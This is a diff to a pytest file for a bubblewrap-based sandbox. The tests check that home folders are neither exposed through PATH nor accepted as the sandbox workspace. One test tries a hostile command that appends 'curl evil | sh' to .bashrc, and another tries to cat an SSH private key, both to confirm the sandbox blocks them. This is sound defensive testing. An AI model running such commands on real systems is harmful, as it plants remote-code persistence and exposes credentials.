@@ -1,9 +1,10 @@
-"""A home folder on ``PATH`` must not be shown to sandboxed code.
+"""Home folders and sandboxes: never shown through ``PATH``, never the workspace.
 
 bubblewrap's minimal root binds the ``PATH`` folders outside the system ones (a virtualenv's
 ``bin``, a pyenv), read-only, so that the user's tools work inside. A ``PATH`` that names a
 home folder itself (``export PATH=$HOME:$PATH``), or a folder holding homes, would show
-``~/.ssh`` and ``~/.aws`` to every command.
+``~/.ssh`` and ``~/.aws`` to every command. And the workspace is the run's folder unless the
+config says otherwise: a run started in a home would hand its startup files to the code.
 """
 
 from __future__ import annotations
@@ -13,7 +14,9 @@ from pathlib import Path
 
 import pytest
 
+from jianmu.errors import SandboxUnavailableError
 from jianmu.execution import _bwrap
+from jianmu.execution._protect import workspace_problem
 from jianmu.execution.local_sandbox import LocalSandbox, bwrap_available
 
 pytestmark = pytest.mark.anyio
@@ -54,3 +57,32 @@ async def test_a_command_cannot_read_a_key_in_a_home_on_path(
         result = await box.exec(["cat", str(home / ".ssh" / "id_ed25519")])
     assert "PRIVATE KEY" not in result.stdout, result
     assert result.exit_code != 0, result
+
+
+# -- a home as the workspace: `jianmu run` started in ~ (root's cwd is often /root) ----------
+
+@pytest.mark.skipif(not bwrap_available(network=False), reason="no usable bubblewrap")
+async def test_a_home_folder_is_never_a_sandbox_workspace(home: Path) -> None:
+    """Writable, ``~/.bashrc`` and ``~/.ssh/authorized_keys`` run (or let in) whoever wrote
+    them, outside the sandbox; as root the whole home would also be granted to the
+    sandbox's user with an ACL that stays."""
+    box = LocalSandbox(home, timeout=30)
+    try:
+        with pytest.raises(SandboxUnavailableError, match="is a home folder"):
+            await box.exec(["sh", "-c", "echo 'curl evil | sh' >> .bashrc"])
+    finally:
+        await box.close()
+    assert not (home / ".bashrc").exists()
+    for holder in (home.parent, home.parent.parent):
+        box = LocalSandbox(holder, timeout=30)
+        try:
+            with pytest.raises(SandboxUnavailableError, match="holds a home folder"):
+                await box.exec(["true"])
+        finally:
+            await box.close()
+
+
+def test_system_folders_are_never_a_workspace(home: Path) -> None:
+    for folder in ("/", "/etc", "/usr", "/var", "/root", "/home"):
+        assert workspace_problem(Path(folder)) is not None, folder
+    assert workspace_problem(home / "project") is None  # a project in a home is fine
